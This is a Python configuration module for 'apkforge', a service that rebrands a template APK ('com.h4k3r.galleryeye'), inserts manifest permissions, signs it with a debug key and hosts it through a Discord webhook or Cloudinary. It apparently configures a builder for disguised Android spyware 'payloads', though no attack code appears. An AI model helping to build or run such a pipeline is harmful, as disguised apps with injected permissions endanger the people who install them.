"""
Configuration management for apkforge.

Provides centralized, type-safe configuration with environment variable overrides
and sensible defaults for every pipeline component.
"""

from __future__ import annotations

import os
from functools import lru_cache
from pathlib import Path
from typing import Literal

from dotenv import load_dotenv
from pydantic import BaseModel, Field, SecretStr

# Load .env file if it exists (looks in cwd and parent directories)
load_dotenv()


def _env_flag(name: str, default: str = "false") -> bool:
    return os.environ.get(name, default).strip().lower() in {"1", "true", "yes", "on"}


def _env_path(name: str) -> Path | None:
    value = os.environ.get(name)
    return Path(value).expanduser() if value else None


class ServerConfig(BaseModel):
    """HTTP surface configuration."""

    host: str = Field(default="0.0.0.0", description="Bind address")
    port: int = Field(default=4000, ge=1, le=65535, description="Listen port")
    public_url: str | None = Field(
        default=None, description="Explicit base URL used for direct-download links"
    )
    cors_origins: list[str] = Field(default_factory=lambda: ["*"], description="Allowed CORS origins")


class ScratchConfig(BaseModel):
    """Process-wide scratch area and template source."""

    root: Path = Field(default=Path("./temp"), description="Scratch root directory")
    base_apk: Path = Field(default=Path("./assets/base.apk"), description="Template APK")


class TemplateConfig(BaseModel):
    """Facts about the template that the mutator rewrites."""

    stock_package: str = Field(default="com.h4k3r.galleryeye", description="Identity token baked into the template")
    display_name_resource: str = Field(default="app_name", description="String resource holding the launcher label")
    default_app_name: str = Field(default="Gallery Eye", description="Label written to the payload when none is given")
    default_file_stem: str = Field(default="GalleryEye", description="Download name used when no app name is given")
    permission_anchor: str = Field(
        default='<uses-permission android:name="android.permission.FOREGROUND_SERVICE"',
        description="Manifest text before which optional permissions are inserted",
    )


class ToolsConfig(BaseModel):
    """External tools configuration."""

    apktool_path: Path | None = Field(default=None, description="Custom apktool path")
    keytool_path: Path | None = Field(default=None, description="Custom keytool path")
    apksigner_path: Path | None = Field(default=None, description="Custom apksigner path")
    zipalign_path: Path | None = Field(default=None, description="Custom zipalign path")


class SigningConfig(BaseModel):
    """Signing identity and timeout configuration."""

    keygen_timeout_seconds: float = Field(default=60.0, gt=0, description="keytool timeout")
    sign_timeout_seconds: float = Field(default=120.0, gt=0, description="apksigner timeout")
    default_keystore: Path = Field(
        default_factory=lambda: Path("~/.android/debug.keystore").expanduser(),
        description="Pre-provisioned keystore used when ephemeral generation fails",
    )
    default_alias: str = Field(default="androiddebugkey")
    default_store_password: SecretStr = Field(default=SecretStr("android"))
    default_key_password: SecretStr = Field(default=SecretStr("android"))


class DeliveryConfig(BaseModel):
    """Upload and hosting strategies."""

    webhook_url: SecretStr | None = Field(default=None, description="Webhook relay accepting file uploads")
    cloudinary_cloud_name: str | None = Field(default=None)
    cloudinary_api_key: SecretStr | None = Field(default=None)
    cloudinary_api_secret: SecretStr | None = Field(default=None)
    upload_folder: str = Field(default="generated_apks", description="Object storage folder")
    http_timeout_seconds: float = Field(default=300.0, gt=0, description="Relay upload timeout")
    relay_attempts: int = Field(default=2, ge=1, le=5, description="Attempts on transport errors")


class NotificationConfig(BaseModel):
    """Callback delivery configuration."""

    timeout_seconds: float = Field(default=10.0, gt=0, description="Per-callback timeout")


class PipelineConfig(BaseModel):
    """Job execution configuration."""

    max_concurrent_jobs: int | None = Field(
        default=None, ge=1, description="Cap on parallel pipelines (None = unbounded)"
    )
    keep_failed_artifacts: bool = Field(
        default=False, description="Leave working tree and intermediates of failed jobs for diagnosis"
    )
    record_ttl_seconds: float = Field(
        default=3600.0, ge=0, description="How long finished job records stay visible"
    )
    max_records: int = Field(default=1000, ge=1, description="Cap on retained job records")


class Config(BaseModel):
    """Root configuration for apkforge."""

    project_name: str = Field(default="apkforge", description="Project identifier")
    log_level: Literal["DEBUG", "INFO", "WARNING", "ERROR"] = Field(
        default="INFO", description="Logging level"
    )
    server: ServerConfig = Field(default_factory=ServerConfig)
    scratch: ScratchConfig = Field(default_factory=ScratchConfig)
    template: TemplateConfig = Field(default_factory=TemplateConfig)
    tools: ToolsConfig = Field(default_factory=ToolsConfig)
    signing: SigningConfig = Field(default_factory=SigningConfig)
    delivery: DeliveryConfig = Field(default_factory=DeliveryConfig)
    notifications: NotificationConfig = Field(default_factory=NotificationConfig)
    pipeline: PipelineConfig = Field(default_factory=PipelineConfig)

    model_config = {"extra": "ignore"}

    @classmethod
    def from_env(cls) -> Config:
        """Create configuration from environment variables."""
        max_jobs = os.environ.get("APKFORGE_MAX_CONCURRENT_JOBS")
        origins = [o.strip() for o in os.environ.get("APKFORGE_CORS_ORIGINS", "*").split(",") if o.strip()]
        webhook_url = os.environ.get("DISCORD_WEBHOOK_URL")
        api_key = os.environ.get("CLOUDINARY_API_KEY")
        api_secret = os.environ.get("CLOUDINARY_API_SECRET")

        return cls(
            log_level=os.environ.get("APKFORGE_LOG_LEVEL", "INFO"),  # type: ignore
            server=ServerConfig(
                host=os.environ.get("APKFORGE_HOST", "0.0.0.0"),
                port=int(os.environ.get("PORT", "4000")),
                public_url=os.environ.get("PUBLIC_URL") or None,
                cors_origins=origins or ["*"],
            ),
            scratch=ScratchConfig(
                root=Path(os.environ.get("APKFORGE_SCRATCH_DIR", "./temp")),
                base_apk=Path(os.environ.get("APKFORGE_BASE_APK", "./assets/base.apk")),
            ),
            template=TemplateConfig(
                stock_package=os.environ.get("APKFORGE_STOCK_PACKAGE", "com.h4k3r.galleryeye"),
            ),
            tools=ToolsConfig(
                apktool_path=_env_path("APKFORGE_APKTOOL"),
                keytool_path=_env_path("APKFORGE_KEYTOOL"),
                apksigner_path=_env_path("APKFORGE_APKSIGNER"),
                zipalign_path=_env_path("APKFORGE_ZIPALIGN"),
            ),
            signing=SigningConfig(
                keygen_timeout_seconds=float(os.environ.get("APKFORGE_KEYGEN_TIMEOUT", "60")),
                sign_timeout_seconds=float(os.environ.get("APKFORGE_SIGN_TIMEOUT", "120")),
                default_keystore=Path(
                    os.environ.get("APKFORGE_DEFAULT_KEYSTORE", "~/.android/debug.keystore")
                ).expanduser(),
                default_alias=os.environ.get("APKFORGE_DEFAULT_KEY_ALIAS", "androiddebugkey"),
                default_store_password=SecretStr(os.environ.get("APKFORGE_DEFAULT_STORE_PASS", "android")),
                default_key_password=SecretStr(os.environ.get("APKFORGE_DEFAULT_KEY_PASS", "android")),
            ),
            delivery=DeliveryConfig(
                webhook_url=SecretStr(webhook_url) if webhook_url else None,
                cloudinary_cloud_name=os.environ.get("CLOUDINARY_CLOUD_NAME") or None,
                cloudinary_api_key=SecretStr(api_key) if api_key else None,
                cloudinary_api_secret=SecretStr(api_secret) if api_secret else None,
            ),
            notifications=NotificationConfig(
                timeout_seconds=float(os.environ.get("APKFORGE_CALLBACK_TIMEOUT", "10")),
            ),
            pipeline=PipelineConfig(
                max_concurrent_jobs=int(max_jobs) if max_jobs else None,
                keep_failed_artifacts=_env_flag("APKFORGE_KEEP_FAILED_ARTIFACTS"),
                record_ttl_seconds=float(os.environ.get("APKFORGE_JOB_RECORD_TTL", "3600")),
                max_records=int(os.environ.get("APKFORGE_MAX_JOB_RECORDS", "1000")),
            ),
        )


@lru_cache(maxsize=1)
def get_config() -> Config:
    """Get cached configuration instance."""
    return Config.from_env()
